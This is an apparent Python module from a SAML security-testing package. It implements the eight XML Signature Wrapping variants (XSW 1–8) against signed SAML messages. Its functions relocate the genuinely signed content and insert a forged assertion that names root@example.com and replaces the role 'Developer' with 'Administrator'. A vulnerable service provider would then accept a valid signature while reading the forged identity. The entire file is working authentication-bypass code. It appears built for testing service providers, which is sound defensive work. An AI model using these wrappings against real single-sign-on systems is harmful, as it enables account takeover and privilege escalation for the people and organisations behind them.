"""
Takes a really signed message apart and puts it together again as a forger would: the signature stays right for the
content it names, and another content stands where a reader looks.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Final

from lxml import etree

from samlcheck.errors import MintError
from samlcheck.mint.layout import NAMESPACES
from samlcheck.mint.minter import edit

__all__ = ["ADMINISTRATOR", "FORGED_USER", "forge", "forged", "part", "signature_of", "unsigned", "xsw"]

FORGED_USER: Final = "root@example.com"
ADMINISTRATOR: Final = "Administrator"
"""Whom a forged message names, and the role it asks for instead of Developer."""

_DS: Final = f"{{{NAMESPACES['ds']}}}"
_SAML: Final = f"{{{NAMESPACES['a']}}}"
_SAMLP: Final = f"{{{NAMESPACES['p']}}}"


def part(root: etree._Element, name: str) -> etree._Element:
    """The first element of that local name; raises MintError where there is none."""
    found = next(root.iter(f"{{*}}{name}"), None)
    if found is None:
        raise MintError(f"the message has no {name}")
    return found


def signature_of(element: etree._Element) -> etree._Element:
    """The Signature that is a child of the element; raises MintError where there is none."""
    found = element.find(f"{_DS}Signature")
    if found is None:
        raise MintError("there is no Signature to be wrapped: sign the element that the attack is about")
    return found


def unsigned(element: etree._Element) -> etree._Element:
    """A copy without the element's own Signature: what the signature was made over."""
    copy = _copied(element)
    copy.remove(signature_of(copy))
    return copy


def forge(element: etree._Element, identifier: str) -> None:
    """Give the element another ID, user and role where it stands."""
    element.set("ID", identifier)
    for inner in element.iterdescendants(f"{_SAML}Assertion"):
        inner.set("ID", f"{identifier}-assertion")
    for name_id in element.iter(f"{_SAML}NameID"):
        name_id.text = FORGED_USER
    for value in element.iter(f"{_SAML}AttributeValue"):
        value.text = (value.text or "").replace("Developer", ADMINISTRATOR)


def forged(element: etree._Element, identifier: str = "_forged") -> etree._Element:
    """A copy with another ID, user and role, and without any Signature."""
    copy = _copied(element)
    for signature in list(copy.iter(f"{_DS}Signature")):
        _parent(signature).remove(signature)
    forge(copy, identifier)
    return copy


def xsw(number: int, data: bytes, *, same_id: bool = False) -> bytes:
    """
    The signed message `data` wrapped: 1 and 2 need a signed Response, 3 to 8 a signed Assertion.

    `same_id` leaves the forged element the ID of the genuine one. Raises MintError where the signature is not there.
    """
    kind = "Response" if number in (1, 2) else "Assertion"

    def change(root: etree._Element) -> None:
        signed = part(root, kind)
        _WRAPPINGS[number](signed, (same_id and signed.get("ID")) or "_forged")

    return edit(data, change)


def _copied(element: etree._Element) -> etree._Element:
    copy = deepcopy(element)
    copy.tail = None
    return copy


def _parent(element: etree._Element) -> etree._Element:
    parent = element.getparent()
    if parent is None:
        raise MintError("the root of a message cannot be moved")
    return parent


def _turned(element: etree._Element, identifier: str) -> tuple[etree._Element, etree._Element]:
    """Forge the element where it stands, its Signature kept: the genuine copy, and that Signature."""
    genuine, signature = unsigned(element), signature_of(element)
    for inner in element.findall(f"{_SAML}Assertion"):
        for other in inner.findall(f"{_DS}Signature"):
            inner.remove(other)
    forge(element, identifier)
    return genuine, signature


def _in_the_signature(element: etree._Element, identifier: str) -> None:
    genuine, signature = _turned(element, identifier)
    signature.append(genuine)


def _before_the_signature(response: etree._Element, identifier: str) -> None:
    genuine, signature = _turned(response, identifier)
    signature.addprevious(genuine)


def _forged_before(assertion: etree._Element, identifier: str) -> None:
    assertion.addprevious(forged(assertion, identifier))


def _forged_around(assertion: etree._Element, identifier: str) -> None:
    outer = forged(assertion, identifier)
    _parent(assertion).replace(assertion, outer)
    outer.append(assertion)


def _genuine_at_the_end(assertion: etree._Element, identifier: str) -> None:
    response = _parent(assertion)
    genuine, _ = _turned(assertion, identifier)
    response.append(genuine)


def _forged_in_extensions(assertion: etree._Element, identifier: str) -> None:
    extensions = etree.Element(f"{_SAMLP}Extensions")
    extensions.append(forged(assertion, identifier))
    part(_parent(assertion), "Status").addprevious(extensions)


def _in_an_object(assertion: etree._Element, identifier: str) -> None:
    genuine, signature = _turned(assertion, identifier)
    etree.SubElement(signature, f"{_DS}Object").append(genuine)


_WRAPPINGS: Final[dict[int, Callable[[etree._Element, str], None]]] = {
    1: _in_the_signature,
    2: _before_the_signature,
    3: _forged_before,
    4: _forged_around,
    5: _genuine_at_the_end,
    6: _in_the_signature,
    7: _forged_in_extensions,
    8: _in_an_object,
}
